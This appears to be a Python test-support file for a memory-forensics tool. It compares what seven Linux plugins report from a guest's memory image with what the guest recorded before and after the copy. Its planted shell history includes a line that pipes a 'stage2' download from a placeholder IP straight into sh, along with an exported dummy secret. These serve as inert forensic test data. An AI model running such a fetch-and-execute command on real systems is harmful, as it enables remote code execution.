# SPDX-License-Identifier: LicenseRef-VSL-1.0
"""What seven plugins print, held against what a guest wrote down before and after its memory was copied."""

from __future__ import annotations

import json
import socket
from collections.abc import Callable, Set
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from dumpmaker import truth
from support.situations.outcomes import said
from support.volrunner import Result, Vol

TYPED = {"cd /tmp", "curl -s http://203.0.113.7/stage2 | sh", "was-typed-elsewhere", "export SECRET=hunter2"}
"""What was typed into the guest's shell (tools/dumpmaker/guest-rich)."""

PASSING_MODULES = {"tun", "veth", "dm_mod", "overlay", "xfs"}
PASSING_FILES = "/busy/"
"""What comes and goes while memory is copied (tools/dumpmaker/guest-acquire): it may stand in the truth of
before and in that of after, and not have been there in between."""

Facts = Set[Any]


@dataclass(frozen=True)
class Told:
    """What a guest wrote down at one moment.

    Attributes:
        processes: number and name.
        modules: names.
        sockets: local and other side, of TCP.
        files: paths.
    """

    processes: Facts
    modules: Facts
    sockets: Facts
    files: Facts

    @classmethod
    def read(cls, folder: Path) -> Told:
        """A folder that `tell` has written (tools/dumpmaker/guest-tell)."""
        rows = truth.processes((folder / "ps").read_text())
        names = {line.split()[0] for line in (folder / "modules").read_text().splitlines()}
        tcp = (folder / "net-tcp", folder / "net-tcp6")
        sockets = {pair for path in tcp for pair in _sockets(path.read_text())}
        files = set((folder / "files").read_text().split())
        pids = {(int(row["pid"]), row["comm"]) for row in rows if not _passing(row["comm"])}
        return cls(pids, names, sockets, files)


def _passing(comm: str) -> bool:
    """Whether processes of this name come and go by the second, or change it."""
    return comm.startswith("kworker") or comm in ("ps", "find")


def _sockets(text: str) -> set[tuple[str, int, str, int]]:
    """Both sides of each socket that a process holds, as /proc/net/tcp has them."""
    lines = (line.split() for line in text.splitlines()[1:])
    return {(*_side(words[1]), *_side(words[2])) for words in lines if words[9] != "0"}


def _side(text: str) -> tuple[str, int]:
    address, port = text.split(":")
    raw = b"".join(bytes.fromhex(address[at : at + 8])[::-1] for at in range(0, len(address), 8))
    return socket.inet_ntop(socket.AF_INET if len(raw) == 4 else socket.AF_INET6, raw), int(port, 16)


@dataclass(frozen=True)
class Answer:
    """What a plugin gave.

    Attributes:
        plugin: its name.
        code: its exit code.
        found: how many of what both truths have are in its rows.
        there: how many both truths have.
        more: its rows that neither truth has.
        lines: what was said.
        note: more about it.
    """

    plugin: str
    code: int
    found: int
    there: int
    more: int
    lines: tuple[str, ...]
    note: str = ""

    @property
    def is_silent_fault(self) -> bool:
        """Whether something is missing, and nothing says so; or there was no answer and no line."""
        return self.found < self.there and not self.lines


class Checks:
    """The seven plugins on one image.

    Args:
        vol: the command.
        image: the image.
        folder: the guest's truth.
        moments: names of the folders in it with what was there before, and after.
    """

    def __init__(self, vol: Vol, image: Path, folder: Path, moments: tuple[str, str]) -> None:
        self._vol, self._image, self._folder = vol, image, folder
        self.before, self.after = (Told.read(folder / moment) for moment in moments)
        self._truth = truth.read(folder)
        self._is_copied = moments[0] != moments[1]

    def all(self) -> list[Answer]:
        """What each of them gave."""
        return [
            self._ask("linux.btfscan --all", self._btf, self._blobs),
            self._ask("linux.btfisf", {self._truth["release"]}, lambda row: row["Release"]),
            self._ask("linux.pslist", self._both("processes"), lambda row: (row["PID"], row["COMM"])),
            self._ask("linux.lsmod", self._both("modules"), lambda row: row["Module Name"]),
            self._ask("linux.bash", TYPED, lambda row: row["Command"]),
            self._ask("linux.sockstat", self._both("sockets"), _socket_of, proto="TCP"),
            self._ask("linux.pagecache.Files", self._both("files"), lambda row: row["FilePath"]),
        ]

    @property
    def _btf(self) -> set[tuple[str, str]]:
        """Name and SHA-256 of the BTF that the kernel had all the time."""
        kept = {"vmlinux", *self._both("modules")}
        return {(name, about["sha256"]) for name, about in self._truth["btf"].items() if name in kept}

    def _both(self, what: str) -> Facts:
        """What was there all the time."""
        before, after = getattr(self.before, what), getattr(self.after, what)
        both: Facts = before & after
        if self._is_copied and what == "modules":
            return both - PASSING_MODULES
        return {one for one in both if what != "files" or not str(one).startswith(PASSING_FILES)}

    def _either(self, plugin: str) -> Facts:
        what = {"linux.pslist": "processes", "linux.lsmod": "modules"}.get(plugin)
        return getattr(self.before, what) | getattr(self.after, what) if what else set()

    def _blobs(self, row: dict[str, Any]) -> tuple[str, str]:
        return row["Name"] or "vmlinux", row["SHA256"]

    def _ask(
        self, words: str, expected: Facts, key: Callable[[dict[str, Any]], Any], proto: str = ""
    ) -> Answer:
        result = self._vol("-q", *words.split(), image=self._image, check=False)
        rows = _rows(result)
        if proto:
            rows = [row for row in rows if row["Proto"] == proto]
        found = [key(row) for row in rows]
        either = self._either(words)
        more = sum(one not in either for one in found if not _passing(str(one[-1]))) if either else 0
        lines = list(said(result.stderr, {self._folder: "…"}))
        lines += [line for line in result.stderr.splitlines() if line.startswith("Traceback")]
        note = ", ".join(sorted({str(row["State"]) for row in rows})) if words == "linux.btfisf" else ""
        return Answer(
            words, result.returncode, len(expected & set(found)), len(expected), more, tuple(lines), note
        )


def _rows(result: Result) -> list[dict[str, Any]]:
    try:
        return result.rows
    except json.JSONDecodeError:
        return []


def _socket_of(row: dict[str, Any]) -> tuple[Any, ...]:
    sides = ("Source", "Destination")
    return tuple(part for side in sides for part in (row[f"{side} Addr"], _number(row[f"{side} Port"])))


def _number(text: Any) -> Any:
    return int(text) if str(text).isdigit() else text
